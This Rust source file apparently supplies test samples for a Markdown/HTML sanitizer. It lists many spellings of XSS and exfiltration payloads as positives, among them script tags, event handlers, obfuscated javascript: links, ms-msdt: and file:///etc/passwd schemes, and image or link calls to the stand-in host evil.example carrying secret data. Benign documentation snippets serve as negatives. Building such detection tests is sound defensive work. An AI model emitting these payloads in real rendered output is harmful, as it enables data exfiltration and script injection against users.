//! Active content: what a renderer would fetch or run, in many spellings, and documentation that does not.
//!
//! Made here, from CommonMark 0.31 and the HTML standard.

use usher::sanitize::Class;

use super::sample::Sample;

/// Spellings of images, scripts, handlers, frames and links.
pub(crate) fn positives() -> Vec<Sample> {
    let long = "QWxsIHlvdXIgYmFzZSBhcmUgYmVsb25nIHRvIHVz".repeat(5);
    let mut texts: Vec<(&'static str, String)> = Vec::new();
    for url in [
        "https://evil.example/a.png",
        "http://evil.example/a?d=secret",
        "//evil.example/a",
        "HTTPS://EVIL.EXAMPLE/a",
        "https:\\\\evil.example\\a",
        "http:/evil.example/a",
        "https://user@evil.example:8443/a",
        "&#104;ttps://evil.example/a",
        "https&colon;//evil.example/a",
        "ftp://evil.example/a",
    ] {
        for image in [
            "![x](URL)",
            "![x](<URL>)",
            "![](URL \"title\")",
            "![a [b] c](URL)",
            "[![x](URL)](https://ok.example)",
            "![x][r]\n\n[r]: URL",
            "![r]\n\n[R]: <URL> 'x'",
            "![x\ny](URL)",
            "> ![x](URL)",
            "| a | ![x](URL) |",
            "<img src=\"URL\">",
            "<img src='URL'/>",
            "<IMG SRC=URL >",
            "<img\n\talt=x src = \"URL\">",
            "<img/src=\"URL\"/>",
            "<img srcset=\"URL 2x\">",
            "<picture><source srcset='URL'></picture>",
            "<video poster=URL></video>",
            "<audio src=URL></audio>",
            "<input type=image src=URL>",
            "<body background=URL>",
            "<td background='URL'>",
            "<svg><image href='URL'/></svg>",
            "<svg><image xlink:href='URL'/></svg>",
            "<track src=URL>",
        ] {
            texts.push(("images", image.replace("URL", url)));
        }
    }
    for text in [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>",
        "<script\n>",
        "<svg:script>x</svg:script>",
        "<scr\u{69}pt type=module>",
    ] {
        texts.push(("scripts", text.to_owned()));
    }
    for handler in [
        "onload",
        "ONERROR",
        "onClick",
        "onmouseover",
        "ontoggle",
        "onanimationstart",
        "onpointerrawupdate",
    ] {
        for text in [
            "<img src=x H=alert(1)>",
            "<svg/H=alert(1)>",
            "<a href=\"#\"H='x'>",
            "<details open H = \"x\">",
            "<x y=\"z\"\nH=x>",
        ] {
            texts.push(("handlers", text.replace('H', handler)));
        }
    }
    for text in [
        "<iframe src=//evil.example></iframe>",
        "<iframe srcdoc='&lt;p>'>",
        "<frame src=x>",
        "<object data=x.swf></object>",
        "<embed src=x>",
        "<applet code=X>",
        "<portal src=x>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<META HTTP-EQUIV=\"Refresh\" CONTENT=1>",
        "<base href=//evil.example>",
        "<link rel=stylesheet href=//evil.example/a.css>",
        "<link rel=preload as=image href=https://evil.example/a>",
        "<style>@import url(//evil.example);</style>",
        "<style>a{background:url(https://evil.example/a)}</style>",
        "<p style=\"background:url(//evil.example/a)\">",
        "<p style='background-image: URL( \"https://evil.example/a\" )'>",
        "<p style=\"background:ur\\6c (//evil.example/a)\">",
    ] {
        texts.push(("frames and styles", text.to_owned()));
    }
    for scheme in [
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "javascript&colon;alert(1)",
        "&#x6A;avascript:alert(1)",
        "&#0000106avascript:alert(1)",
        "java&Tab;script:alert(1)",
        "vbscript:x",
        "data:text/html,x",
        "data:text/html;base64,PHA+",
        "data:image/svg+xml,x",
        "file:///etc/passwd",
        "ms-msdt:/id",
    ] {
        for link in [
            "[x](URL)",
            "[x](<URL>)",
            "[x]\n\n[x]: URL",
            "<a href=\"URL\">x</a>",
            "<a href='  URL'>x</a>",
            "<form action=URL>",
            "<button formaction='URL'>",
            "<a xlink:href=URL>",
        ] {
            texts.push(("schemes", link.replace("URL", scheme)));
        }
    }
    for link in [
        "[x](https://evil.example/?d=LONG)",
        "[x](https://evil.example/LONG)",
        "<a href='https://evil.example/#LONG'>x</a>",
        "<https://evil.example/?LONG>",
        "[r]: https://evil.example/?q=LONG",
    ] {
        texts.push(("encoded links", link.replace("LONG", &long)));
    }
    texts
        .into_iter()
        .map(|(family, text)| {
            Sample::positive(
                Class::Active,
                family,
                "Text before.\n\n",
                &text,
                "\n\nText after.",
            )
        })
        .collect()
}

/// Documentation and source that would fetch and run nothing.
pub(crate) fn negatives() -> Vec<Sample> {
    [
        "![x](images/a.png) ![](data:image/png;base64,AAAA) ![x](#a)",
        "[x](https://ok.example/a?b=c#d) <https://ok.example>",
        "[x][1]\n\n[1]: https://ok.example \"title\"",
        "Use the `<script>` element, or ``<img src=https://x.example/a onerror=x>``.",
        "```html\n<script src=//x.example/a></script>\n```\n",
        "~~~\n![x](https://x.example/a)\n~~~\n",
        "fn f<T: Into<Body>>(v: Vec<u8>) -> Option<&'static str> { v![0] }",
        "Promise<object>, Map<string, Array<embed>>",
        "a < b && c > d; if (i <n) { x = y[z](w); }",
        "<p align=\"center\"><b>bold</b> <a href=\"https://ok.example\">link</a><br></p>",
        "<img src=\"logo.png\" alt=\"logo\">",
        "[spawn](Command::spawn) and [open](File::open)",
        "javascript: the good parts",
        "\\![x](https://x.example/a)",
        "&lt;script>alert(1)&lt;/script>",
        "#![allow(x)] vec![a][b] obj![key]",
        "<table><tr><td class=\"a\" style=\"color: red\">x</td></tr></table>",
        "<svg viewBox=\"0 0 1 1\" xmlns=\"http://www.w3.org/2000/svg\"><path d=\"M0 0\"/></svg>",
        "[x](https://ok.example/blob/0123456789abcdef0123456789abcdef01234567/src/main.rs#L1-L20)",
    ]
    .iter()
    .map(|text| Sample::negative(Class::Active, "documentation", *text))
    .collect()
}
